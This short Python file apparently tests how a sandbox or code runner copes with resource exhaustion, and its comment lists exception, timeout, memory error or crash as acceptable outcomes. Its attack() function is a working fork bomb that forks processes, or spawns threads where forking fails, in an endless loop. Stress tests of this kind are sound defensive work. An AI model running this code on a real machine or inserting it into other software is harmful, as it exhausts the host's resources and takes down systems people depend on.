"""Starts processes and threads without end."""
# acceptable: exception, timeout, memory, crash

import os
import threading


def attack():
    while True:
        try:
            os.fork()
        except AttributeError:
            threading.Thread(target=attack).start()
